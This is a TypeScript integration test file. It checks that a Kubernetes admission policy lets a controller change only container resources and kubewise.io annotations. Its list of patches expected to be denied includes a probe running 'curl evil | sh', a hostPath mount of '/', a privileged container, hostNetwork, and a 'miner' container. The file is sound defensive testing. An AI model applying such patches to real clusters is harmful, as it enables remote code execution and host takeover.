import { afterAll, beforeAll, describe, expect, it } from "vitest";

import type { KubeClients } from "@kubewise/controller";

import {
  adminClients,
  controllerUsername,
  createCronJob,
  createNamespace,
  createSampleDeployment,
  deleteNamespace,
  kubectl,
} from "./harness";

type Patch = { type: "strategic" | "merge" | "json"; body: unknown };
const strategic = (body: unknown): Patch => ({ type: "strategic", body });
const merge = (body: unknown): Patch => ({ type: "merge", body });
const podSpec = (spec: Record<string, unknown>) =>
  strategic({ spec: { template: { spec } } });
const app = (fields: Record<string, unknown>) =>
  podSpec({ containers: [{ name: "app", ...fields }] });
const cronJobApp = (fields: Record<string, unknown>) =>
  strategic({
    spec: {
      jobTemplate: {
        spec: {
          template: { spec: { containers: [{ name: "app", ...fields }] } },
        },
      },
    },
  });

/**
 * Every field the issue found admitted under the old deny-list, plus the obvious ones. Each is
 * sent as the controller's ServiceAccount (kubectl --as) and must be denied by the chart's policy.
 */
const DENIED: [string, Patch, RegExp][] = [
  [
    "a livenessProbe running a shell",
    app({
      livenessProbe: { exec: { command: ["sh", "-c", "curl evil | sh"] } },
    }),
    /app \(livenessProbe\)/,
  ],
  ["workingDir", app({ workingDir: "/tmp" }), /app \(workingDir\)/],
  [
    "imagePullPolicy",
    app({ imagePullPolicy: "Always" }),
    /app \(imagePullPolicy\)/,
  ],
  [
    "strategy.rollingUpdate.maxUnavailable 100%",
    strategic({
      spec: { strategy: { rollingUpdate: { maxUnavailable: "100%" } } },
    }),
    /may not change spec.strategy/,
  ],
  ["paused: true", merge({ spec: { paused: true } }), /spec.paused/],
  ["pod nodeName", podSpec({ nodeName: "node-a" }), /pod spec: nodeName/],
  [
    "priorityClassName",
    podSpec({ priorityClassName: "system-node-critical" }),
    /pod spec: priorityClassName/,
  ],
  [
    "terminationGracePeriodSeconds",
    podSpec({ terminationGracePeriodSeconds: 0 }),
    /pod spec: terminationGracePeriodSeconds/,
  ],
  [
    "dnsPolicy None + dnsConfig",
    podSpec({
      dnsPolicy: "None",
      dnsConfig: { nameservers: ["203.0.113.53"] },
    }),
    /pod spec: (dnsPolicy, dnsConfig|dnsConfig, dnsPolicy)/,
  ],
  [
    "hostAliases",
    podSpec({ hostAliases: [{ ip: "203.0.113.1", hostnames: ["api"] }] }),
    /pod spec: hostAliases/,
  ],
  ["image", app({ image: "registry.invalid/evil:1" }), /app \(image\)/],
  ["command", app({ command: ["sh", "-c", "id"] }), /app \(command\)/],
  ["args", app({ args: ["--evil"] }), /app \(args\)/],
  ["env", app({ env: [{ name: "EVIL", value: "1" }] }), /app \(env\)/],
  [
    "volumes",
    podSpec({ volumes: [{ name: "host", hostPath: { path: "/" } }] }),
    /pod spec: volumes/,
  ],
  [
    "volumeMounts",
    app({ volumeMounts: [{ name: "scratch", mountPath: "/scratch" }] }),
    /app \(volumeMounts\)/,
  ],
  [
    "a container securityContext",
    app({ securityContext: { privileged: true } }),
    /app \(securityContext\)/,
  ],
  [
    "the pod securityContext",
    podSpec({ securityContext: { runAsUser: 0 } }),
    /pod spec: securityContext/,
  ],
  ["hostNetwork", podSpec({ hostNetwork: true }), /pod spec: hostNetwork/],
  [
    "serviceAccountName",
    podSpec({ serviceAccountName: "default" }),
    /pod spec: (serviceAccount, )?serviceAccountName/,
  ],
  [
    "a new container",
    podSpec({
      containers: [{ name: "miner", image: "registry.invalid/miner:1" }],
    }),
    /add, remove, rename or reorder containers/,
  ],
  [
    "an init container",
    podSpec({
      initContainers: [{ name: "pre", image: "registry.invalid/pre:1" }],
    }),
    /pod spec: initContainers/,
  ],
  [
    "a GPU limit (not cpu or memory)",
    app({ resources: { limits: { "nvidia.com/gpu": "1" } } }),
    /requests and limits, not app \(nvidia.com\/gpu\)/,
  ],
  ["replicas", merge({ spec: { replicas: 50 } }), /spec.replicas/],
  [
    "pod template labels",
    strategic({ spec: { template: { metadata: { labels: { x: "y" } } } } }),
    /pod template metadata/,
  ],
  [
    "workload labels",
    merge({ metadata: { labels: { team: "evil" } } }),
    /metadata.labels/,
  ],
  [
    "an annotation outside kubewise.io/",
    merge({ metadata: { annotations: { "example.com/x": "1" } } }),
    /kubewise.io\/ annotations, not example.com\/x/,
  ],
];

describe("allow-list admission: the controller may change only container resources and kubewise.io annotations", () => {
  let admin: KubeClients;
  let namespace: string;

  const patchAs = (
    kind: string,
    name: string,
    patch: Patch,
    as = controllerUsername(),
  ) =>
    kubectl(
      [
        "patch",
        kind,
        name,
        "-n",
        namespace,
        "--type",
        patch.type,
        "-p",
        JSON.stringify(patch.body),
      ],
      { as },
    );

  beforeAll(async () => {
    admin = adminClients();
    namespace = await createNamespace(admin, "admission");
    await createSampleDeployment(admin, namespace);
    // a volume the controller could try to mount (a mount of a missing volume fails validation
    // before admission, and the policy reports only the first rule that fails)
    const volume = await kubectl([
      "patch",
      "deployment",
      "web",
      "-n",
      namespace,
      "-p",
      JSON.stringify({
        spec: {
          template: {
            spec: { volumes: [{ name: "scratch", emptyDir: {} }] },
          },
        },
      }),
    ]);
    expect(volume).toMatchObject({ code: 0 });
    await admin.apps.createNamespacedStatefulSet({
      namespace,
      body: {
        metadata: { name: "db" },
        spec: {
          replicas: 2,
          serviceName: "db",
          updateStrategy: { type: "RollingUpdate" },
          selector: { matchLabels: { app: "db" } },
          template: {
            metadata: { labels: { app: "db" } },
            spec: {
              containers: [
                {
                  name: "app",
                  image: "registry.invalid/db:1",
                  resources: { requests: { cpu: "1", memory: "1Gi" } },
                },
              ],
            },
          },
        },
      },
    });
    await createCronJob(admin, namespace, {
      name: "nightly",
      container: {
        name: "app",
        image: "registry.invalid/batch:1",
        resources: { requests: { cpu: "1", memory: "1Gi" } },
      },
    });
  });
  afterAll(async () => {
    await deleteNamespace(admin, namespace);
  });

  it.each(DENIED)("denies %s", async (_what, patch, message) => {
    const result = await patchAs("deployment", "web", patch);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(/ValidatingAdmissionPolicy/);
    expect(result.stderr).toMatch(message);
  });

  it("admits what the controller sends: cpu/memory requests and limits (set and removed) and its annotations", async () => {
    const resources = await patchAs(
      "deployment",
      "web",
      app({
        resources: {
          requests: { cpu: "500m", memory: "512Mi" },
          limits: { cpu: null, memory: "1Gi" },
        },
      }),
    );
    expect(resources).toMatchObject({ code: 0 });
    const annotations = await patchAs(
      "deployment",
      "web",
      merge({
        metadata: {
          annotations: { "kubewise.io/applied-recommendation": "x@1" },
        },
      }),
    );
    expect(annotations).toMatchObject({ code: 0 });
  });

  it("admits a StatefulSet's partition and nothing else of its update strategy", async () => {
    const partition = await patchAs(
      "statefulset",
      "db",
      merge({ spec: { updateStrategy: { rollingUpdate: { partition: 1 } } } }),
    );
    expect(partition).toMatchObject({ code: 0 });
    const onDelete = await patchAs(
      "statefulset",
      "db",
      merge({
        spec: { updateStrategy: { type: "OnDelete", rollingUpdate: null } },
      }),
    );
    expect(onDelete.stderr).toMatch(/spec.updateStrategy type/);
    const unavailable = await patchAs(
      "statefulset",
      "db",
      merge({
        spec: { updateStrategy: { rollingUpdate: { maxUnavailable: "100%" } } },
      }),
    );
    // StatefulSet maxUnavailable is behind the MaxUnavailableStatefulSet gate (off by default in
    // v1.35): the API server drops the field before admission; with the gate on, the policy denies it
    if (unavailable.code === 0) {
      const stored = await admin.apps.readNamespacedStatefulSet({
        name: "db",
        namespace,
      });
      expect(stored.spec?.updateStrategy?.rollingUpdate).toEqual({
        partition: 1,
      });
    } else {
      expect(unavailable.stderr).toMatch(/updateStrategy maxUnavailable/);
    }
    const deploymentPartition = await patchAs(
      "deployment",
      "web",
      merge({ spec: { strategy: { rollingUpdate: { maxSurge: 0 } } } }),
    );
    expect(deploymentPartition.stderr).toMatch(/spec.strategy/);
  });

  it("admits a CronJob's job-template resources, denies its schedule, suspend and image", async () => {
    const resources = await patchAs(
      "cronjob",
      "nightly",
      cronJobApp({ resources: { requests: { cpu: "500m" } } }),
    );
    expect(resources).toMatchObject({ code: 0 });
    for (const [body, message] of [
      [{ spec: { schedule: "* * * * *" } }, /spec.schedule/],
      [{ spec: { suspend: true } }, /spec.suspend/],
      [
        { spec: { jobTemplate: { spec: { backoffLimit: 100 } } } },
        /job template, not backoffLimit/,
      ],
    ] as const) {
      const result = await patchAs("cronjob", "nightly", merge(body));
      expect(result.stderr).toMatch(message);
    }
    const image = await patchAs(
      "cronjob",
      "nightly",
      cronJobApp({ image: "registry.invalid/evil:1" }),
    );
    expect(image.stderr).toMatch(/app \(image\)/);
  });

  it("applies to the controller only: an administrator may still change the image", async () => {
    const result = await kubectl([
      "patch",
      "deployment",
      "web",
      "-n",
      namespace,
      "-p",
      JSON.stringify(app({ image: "registry.invalid/kubewise/sample:2" }).body),
    ]);
    expect(result.code).toBe(0);
  });
});
